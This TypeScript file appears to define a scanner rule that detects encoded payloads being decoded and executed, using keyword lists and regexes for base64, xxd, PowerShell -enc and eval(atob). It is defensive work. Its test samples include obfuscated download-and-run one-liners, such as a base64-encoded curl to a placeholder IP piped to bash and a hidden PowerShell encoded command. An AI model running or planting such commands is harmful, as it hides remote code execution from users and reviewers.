import { decodesAndRuns, pipeline, plainCommands, readings } from "oktsec/evidence";
import { defineRule } from "oktsec/rule";
import type { Sample, Span } from "oktsec/rule";

export default defineRule({
  id: "CMDEXEC_014",
  aliases: ["SUPPLY_006"],
  title: "An encoded payload is decoded and run",
  why: "Code is encoded so that nobody reads it before it runs.",
  fix: "Decode it in a safe place and read it. Refuse it until then.",
  severity: "high",
  category: "command-execution",
  lane: "block",
  maps: {
    asi: ["ASI05"],
    mcp: ["MCP05"],
    cwe: ["CWE-506", "CWE-78"],
    see: ["https://attack.mitre.org/techniques/T1027/"],
  },
  keywords: [
    "base64",
    "base32",
    "xxd",
    "openssl",
    "b64decode",
    "atob",
    "fromhex",
    "frombase64string",
    "gunzip",
    "zcat",
    "uudecode",
    "\\x",
    "-enc",
    "unhexlify",
    "fromcharcode",
    "decompress",
    "buffer.from",
  ],
  match: [
    commands,
    /\b(?:exec|eval|compile)\s{0,2}\(\s{0,2}(?:[\w.]{1,40}\(\s{0,2}){0,4}(?:base64\.)?(?:b64decode|b32decode|b85decode|unhexlify|fromhex|zlib\.decompress|marshal\.loads|codecs\.decode|atob|Buffer\.from)\s{0,2}\(\s{0,2}[^\s.…)]/i,
    /\b(?:eval|Function|setTimeout|exec(?:Sync)?)\s{0,2}\(\s{0,2}(?:atob|unescape|decodeURIComponent|String\.fromCharCode|Buffer\.from|window\.atob)\s{0,2}\(\s{0,2}[^\s.…)]/,
    /\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,120}\s-(?:e|en|enc|enco\w{0,10}|ec)\s{1,3}["']?[A-Za-z0-9+/]{40,}/i,
    /\b(?:iex|Invoke-Expression)\b[^\n]{0,80}FromBase64String|FromBase64String\b[^\n]{0,400}\|\s{0,3}(?:iex|Invoke-Expression)\b/i,
  ],
  examples: {
    flags: [
      { text: "echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjQvYQ== | base64 -d | bash", kind: "command" },
      { text: "python3 -c \"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\"", kind: "tool_argument" },
      { text: "eval $(printf '\\x69\\x64\\x20\\x2d\\x61' | xxd -r)", kind: "command" },
      "powershell -nop -w hidden -enc " + "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
      { text: "eval(atob('YWxlcnQoMSk='))", kind: "tool_result" },
    ],
    passes: [
      "Why is `eval(atob(...))` in a script of others a red flag?",
      { text: "echo SGVsbG8= | base64 -d", kind: "command" },
      { text: "kubectl get secret db -o jsonpath='{.data.user}' | base64 -d", kind: "command" },
      { text: "data = base64.b64decode(payload)", kind: "document" },
      { text: "openssl enc -d -aes-256-cbc -in a.enc -out a.txt", kind: "command" },
      "the base64 text is decoded and then the shell shows it",
    ],
  },
});

/** Without one of these and a pipe or a substitution there is nothing that a shell would decode. */
const DECODER = /\b(?:base64|base32|xxd|openssl|uudecode|gunzip|zcat)\b|\\x[0-9a-f]{2}/i;

function* commands(sample: Sample): Generator<Span> {
  if (!DECODER.test(sample.text) || !/[|`(]/.test(sample.text)) return;
  for (const command of plainCommands(sample)) {
    if (readings(command).some(decodesAndRuns)) {
      yield { start: command.start, end: (pipeline(command).at(-1) ?? command).end };
    }
  }
}
